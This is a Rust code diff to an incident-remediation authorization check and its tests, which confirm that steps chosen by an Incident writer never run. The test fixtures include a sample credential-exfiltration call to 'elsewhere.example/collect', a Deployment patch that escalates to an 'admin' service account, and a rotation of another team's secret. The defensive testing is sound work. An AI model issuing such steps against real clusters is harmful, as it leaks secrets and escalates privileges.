@@ -201,7 +201,7 @@ pub fn authorized_mode(
         // What a step calls or runs is the policy's to choose, never an
         // Incident writer's (whatever allowedActions says).
         Some(_) if own && actions::resolve(step.action).policy_only() => Err(format!(
-            "an Incident's own {} step never runs: what it calls or runs belongs in a RemediationPolicy rule",
+            "an Incident's own {} step never runs: what it calls, runs or changes belongs in a RemediationPolicy rule",
             step.action
         )),
         Some(policy) if own && !policy.spec.incidents.allowed_actions.contains(&step.action) => {
@@ -854,20 +854,41 @@ mod tests {
             [(DryRun, true), (DryRun, true)],
             "approving allows no own actions"
         );
-        // A call an Incident writer chose never runs, whatever the policy
-        // says (an older schema may have let `http` into allowedActions).
-        let call = serde_json::json!([{"action": "http",
-            "http": {"url": "http://elsewhere.example/collect", "headersFrom": {"name": "db-credentials"}}}]);
-        let careless = policy("Auto", &["http"]);
-        let ladder = resolve(&incident(Some("Auto"), Some(call)), Some(&careless), true).unwrap();
-        assert_eq!(modes(&ladder), [(DryRun, true)]);
-        assert!(
-            ladder.rungs[0]
-                .limited
-                .as_deref()
-                .unwrap()
-                .contains("belongs in a RemediationPolicy rule")
-        );
+        // A call, an object or a Secret an Incident writer chose is never
+        // acted on, whatever the policy says (an older schema may have let
+        // them into allowedActions).
+        for (kind, step) in [
+            (
+                "http",
+                serde_json::json!({"action": "http",
+                "http": {"url": "http://elsewhere.example/collect", "headersFrom": {"name": "db-credentials"}}}),
+            ),
+            (
+                "patch",
+                serde_json::json!({"action": "patch", "patch": {"apiVersion": "apps/v1",
+                "kind": "Deployment", "name": "other", "patch": {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}}}}),
+            ),
+            (
+                "rotateSecret",
+                serde_json::json!({"action": "rotateSecret",
+                "rotateSecret": {"secret": "other-team", "key": "password"}}),
+            ),
+        ] {
+            let careless = policy("Auto", &[kind]);
+            let own = serde_json::json!([step]);
+            let ladder =
+                resolve(&incident(Some("Auto"), Some(own)), Some(&careless), true).unwrap();
+            assert_eq!(modes(&ladder), [(DryRun, true)], "{kind}");
+            assert!(
+                ladder.rungs[0]
+                    .limited
+                    .as_deref()
+                    .unwrap()
+                    .contains("belongs in a RemediationPolicy rule"),
+                "{kind}: {:?}",
+                ladder.rungs[0].limited
+            );
+        }
         // No policy at all: everything is a dry run.
         let mut alone = incident(Some("Auto"), Some(own));
         alone.spec.policy = None;
